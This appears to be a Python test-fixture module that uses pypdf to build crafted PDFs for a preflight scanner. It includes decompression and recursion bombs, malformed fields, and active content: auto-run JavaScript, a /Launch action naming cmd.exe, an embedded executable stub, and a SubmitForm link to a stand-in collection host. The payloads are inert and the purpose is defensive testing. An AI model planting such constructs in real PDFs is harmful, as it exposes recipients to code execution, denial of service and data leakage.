"""Small crafted PDFs for preflight (issue 27, points 3, 5 and 10), built with pypdf's object model."""

from __future__ import annotations

import zlib
from pathlib import Path

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)


def N(name: str) -> NameObject:  # noqa: N802 — reads like the PDF syntax it writes
    return NameObject(name)


def _writer(content: bytes = b"", resources: DictionaryObject | None = None):
    writer = PdfWriter()
    page = writer.add_blank_page(width=420, height=595)
    stream = DecodedStreamObject()
    stream.set_data(content)
    page[N("/Contents")] = writer._add_object(stream)
    page[N("/Resources")] = resources or DictionaryObject()
    return writer, page


def _form(writer: PdfWriter, content: bytes) -> tuple[DecodedStreamObject, object]:
    form = DecodedStreamObject()
    form.update({N("/Type"): N("/XObject"), N("/Subtype"): N("/Form"),
                 N("/BBox"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)])})
    form.set_data(content)
    return form, writer._add_object(form)


def cyclic_forms(path: Path) -> None:
    """Two form XObjects drawing each other (and themselves): without a visited set, 2^12 scans and more."""
    writer, page = _writer(b"/A Do")
    a, ref_a = _form(writer, b"/A Do /B Do " * 8)
    b, ref_b = _form(writer, b"/B Do /A Do " * 8)
    for form in (a, b):
        form[N("/Resources")] = DictionaryObject({N("/XObject"): DictionaryObject({N("/A"): ref_a, N("/B"): ref_b})})
    page[N("/Resources")] = DictionaryObject({N("/XObject"): DictionaryObject({N("/A"): ref_a})})
    writer.write(path)


def fan_out_forms(path: Path) -> None:
    """Twelve levels of forms, each drawing the next at ten places: 10^12 placements, no loop."""
    writer, page = _writer(b"/F0 Do")
    refs = []
    forms = []
    for _ in range(12):
        content = b"".join(b"q 1 0 0 1 %d 0 cm /Next Do Q " % n for n in range(10))
        form, ref = _form(writer, content)
        forms.append(form)
        refs.append(ref)
    for level, form in enumerate(forms):
        below = refs[level + 1] if level + 1 < len(refs) else refs[level]
        form[N("/Resources")] = DictionaryObject({N("/XObject"): DictionaryObject({N("/Next"): below})})
    forms[-1].set_data(b"0 0 m 1 1 l S")
    page[N("/Resources")] = DictionaryObject({N("/XObject"): DictionaryObject({N("/F0"): refs[0]})})
    writer.write(path)


def flate_bomb(path: Path) -> None:
    """A content stream of 80 MB of spaces in 80 KB: pypdf stops it with LimitReachedError."""
    writer, page = _writer()
    stream = StreamObject()
    stream._data = zlib.compress(b" " * 80_000_000, 9)
    stream[N("/Filter")] = N("/FlateDecode")
    page[N("/Contents")] = writer._add_object(stream)
    writer.write(path)


def names_for_numbers(path: Path) -> None:
    """Names where numbers belong: in the MediaBox and in an image's size."""
    image = StreamObject()
    image.update({N("/Type"): N("/XObject"), N("/Subtype"): N("/Image"), N("/Width"): N("/rong"),
                  N("/Height"): N("/cao"), N("/ColorSpace"): N("/DeviceGray"), N("/BitsPerComponent"): NumberObject(8)})
    image._data = b"\0"
    writer, page = _writer(b"q 100 0 0 100 0 0 cm /Im Do Q")
    page[N("/Resources")] = DictionaryObject({N("/XObject"): DictionaryObject({N("/Im"): writer._add_object(image)})})
    page[N("/MediaBox")] = ArrayObject([N("/trai"), NumberObject(0), NumberObject(420), NumberObject(595)])
    writer.write(path)


def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({N("/Type"): N("/Action"), N("/S"): N(kind)})
    action.update({N(f"/{k}"): v for k, v in entries.items()})
    return action


def open_action_javascript(path: Path) -> None:
    writer, _ = _writer()
    writer._root_object[N("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert('in')"))
    writer.write(path)


def launch_action(path: Path) -> None:
    writer, _ = _writer()
    writer._root_object[N("/OpenAction")] = _action("/Launch", F=TextStringObject("cmd.exe"))
    writer.write(path)


def embedded_executable(path: Path) -> None:
    writer, _ = _writer()
    writer.add_attachment("cap-nhat.exe", b"MZ\x90\x00" + b"\0" * 60)
    writer.write(path)


def javascript_name_tree(path: Path) -> None:
    writer, _ = _writer()
    script = _action("/JavaScript", JS=TextStringObject("app.alert('mo tep');"))
    tree = DictionaryObject({N("/Names"): ArrayObject([TextStringObject("khoi-dong"), writer._add_object(script)])})
    writer._root_object[N("/Names")] = DictionaryObject({N("/JavaScript"): writer._add_object(tree)})
    writer.write(path)


def page_additional_action(path: Path) -> None:
    writer, page = _writer()
    page[N("/AA")] = DictionaryObject({N("/O"): _action("/JavaScript", JS=TextStringObject("this.print()"))})
    writer.write(path)


def submit_form_link(path: Path) -> None:
    writer, page = _writer()
    link = DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/Link"),
                             N("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(9), NumberObject(9)]),
                             N("/A"): _action("/SubmitForm", F=TextStringObject("https://thu-thap.example/"))})
    page[N("/Annots")] = ArrayObject([writer._add_object(link)])
    writer.write(path)


def rich_media(path: Path) -> None:
    writer, page = _writer()
    annotation = DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/RichMedia"),
                                   N("/Rect"): ArrayObject([NumberObject(0)] * 4)})
    page[N("/Annots")] = ArrayObject([writer._add_object(annotation)])
    writer.write(path)


def chained_javascript(path: Path) -> None:
    """A harmless web link whose /Next action runs JavaScript (and loops back to itself)."""
    writer, page = _writer()
    first = _action("/URI", URI=TextStringObject("https://dichvucong.gov.vn/"))
    ref = writer._add_object(first)
    first[N("/Next")] = ArrayObject([_action("/JavaScript", JS=TextStringObject("app.alert(2)")), ref])
    link = DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/Link"),
                             N("/Rect"): ArrayObject([NumberObject(0)] * 4), N("/A"): ref})
    page[N("/Annots")] = ArrayObject([writer._add_object(link)])
    writer.write(path)


def web_link_only(path: Path) -> None:
    writer, page = _writer()
    link = DictionaryObject({N("/Type"): N("/Annot"), N("/Subtype"): N("/Link"),
                             N("/Rect"): ArrayObject([NumberObject(0)] * 4),
                             N("/A"): _action("/URI", URI=TextStringObject("https://dichvucong.gov.vn/"))})
    page[N("/Annots")] = ArrayObject([writer._add_object(link)])
    writer.write(path)
